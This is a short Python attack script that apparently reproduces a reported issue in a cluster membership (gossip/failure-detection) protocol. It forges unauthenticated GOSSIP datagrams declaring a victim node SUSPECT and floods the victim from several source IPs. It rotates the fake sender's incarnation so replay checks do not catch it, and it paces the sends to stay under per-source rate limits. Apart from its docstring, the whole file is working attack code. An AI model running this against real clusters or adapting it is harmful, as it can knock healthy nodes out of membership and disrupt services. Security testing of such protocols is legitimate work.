#!/usr/bin/python3
"""A keyless LAN peer forging GOSSIP "VICTIM is SUSPECT" datagrams, 28 entries each (the most a
508-byte datagram holds), about incarnation SELF_INCARNATION + OFFSET (mod 2^32); OFFSET 0 claims
the victim's current incarnation, a large one an incarnation it never had.
usage: refute_flood.py VICTIM_IP UDP_PORT NODE_ID_HEX SELF_INCARNATION OFFSET COUNT SRC_IP...
(Issue 18 state-fix 1; from the attacker's /work/attack/state/refute_flood.py.)
"""
import socket, struct, sys, time

vip, port, nid = sys.argv[1], int(sys.argv[2]), int(sys.argv[3], 16)
inc, offset, count = int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6])
socks = []
for src in sys.argv[7:]:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind((src, 0))
    socks.append(u)
ip_int = struct.unpack(">I", socket.inet_aton(vip))[0]
entry = struct.pack(">IIIHHB", nid, (inc + offset) & 0xFFFFFFFF, ip_int, port, 80, 2)  # state 2 = suspect
body = bytes([28]) + entry * 28
sender = 0xA77AC001
life = int(time.time()) & 0x7FFFFFFF  # each run a new life of the fake sender: not replays of the last
for seq in range(1, count + 1):
    # v1 header: magic, version, type 5 (GOSSIP), flags, sender, incarnation, seq, body length
    hdr = b"SP" + struct.pack(">BBBIIIH", 1, 5, 0, sender, life, seq, len(body))
    socks[seq % len(socks)].sendto(hdr + body, (vip, port))
    if seq % 50 == 0:
        time.sleep(0.01)  # paced: under the per-source limit, no socket-buffer overflow
